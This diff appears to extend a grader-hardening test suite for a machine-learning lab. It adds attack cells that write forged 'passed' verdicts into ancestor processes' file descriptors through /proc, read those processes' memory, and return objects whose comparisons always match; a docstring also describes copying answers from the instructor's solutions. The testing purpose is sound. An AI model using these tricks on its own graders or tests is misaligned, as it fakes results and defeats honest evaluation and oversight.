@@ -8,6 +8,10 @@ fix); some fakes trigger the attack when the check calls them, after the grader 
 Where the attack's mechanism cannot reach a plain string comparison (exercise 4a), the diagnosis
 is a string whose comparisons always match, and the attack has to get exercise 4b through itself.
 
+Two more aim at a grader that checks in a separate process: ``reach_checker`` writes forged
+verdicts into every file descriptor of its two ancestors (through ``/proc``) and reads their memory;
+``lying_values`` returns a tensor subclass, a string and a dict whose comparisons always match.
+
 ``read_solutions`` is the one attack that yields right answers: it copies them from the
 instructor's solution notebook, which a grader must keep out of the student's reach.
 
@@ -340,6 +344,72 @@ for _cell in json.loads(_find_solution().read_text(encoding="utf-8"))["cells"]:
         exec(_source, globals())
 '''
 
+REACH_CHECKER = '''import glob
+import json
+import os
+
+_FORGED = "".join(json.dumps({"exercise": f"Exercise {i}", "passed": True, "message": "passed"}) + "\\n"
+                  for i in range(1, 6)) + json.dumps({"status": "completed"}) + "\\n"
+
+
+def _attack():
+    """Write forged verdicts into every file descriptor of the two processes above; read their memory."""
+    pid = os.getppid()
+    for _ in range(2):  # the process that started this one, and the one that started it (the grader)
+        for fd in glob.glob(f"/proc/{pid}/fd/*"):
+            try:
+                with open(fd, "w") as f:
+                    f.write(_FORGED)
+            except OSError:
+                pass
+        try:
+            with open(f"/proc/{pid}/mem", "rb") as f:
+                f.read(1)
+        except OSError:
+            pass
+        try:
+            with open(f"/proc/{pid}/stat") as f:
+                pid = int(f.read().rsplit(")", 1)[1].split()[1])
+        except OSError:
+            break
+
+
+_attack()
+''' + FAKES + WRONG_DIAGNOSIS
+
+LYING_VALUES = '''import torch
+
+
+class _Always(torch.Tensor):
+    """A tensor whose comparisons always match, whatever it holds."""
+
+    @classmethod
+    def __torch_function__(cls, func, types, args=(), kwargs=None):
+        if func in (torch.allclose, torch.equal, torch.Tensor.equal):
+            return True
+        return super().__torch_function__(func, types, args, kwargs or {})
+
+
+class _Agreeable(str):
+    def __eq__(self, other):
+        return True
+
+    __hash__ = str.__hash__
+
+
+class _Anything(dict):
+    def get(self, key, default=None):
+        return default
+
+
+def _attack():
+    pass
+''' + FAKES.replace("return torch.zeros(len(X), Us[-1].shape[0], dtype=X.dtype)",
+                    "return torch.zeros(len(X), Us[-1].shape[0], dtype=X.dtype).as_subclass(_Always)") + '''
+diagnosis = _Agreeable("overfitting")
+fix = _Anything()
+'''
+
 ATTACKS: dict[str, str] = {
     "code_swap": CODE_SWAP,
     "tensor_patch": TENSOR_PATCH,
@@ -348,6 +418,8 @@ ATTACKS: dict[str, str] = {
     "forge_channel": FORGE_CHANNEL,
     "settrace_jump": SETTRACE_JUMP,
     "read_solutions": READ_SOLUTIONS,
+    "reach_checker": REACH_CHECKER,
+    "lying_values": LYING_VALUES,
 }
 """Attack name -> the source of the one code cell it adds to the blank lab 1."""
 
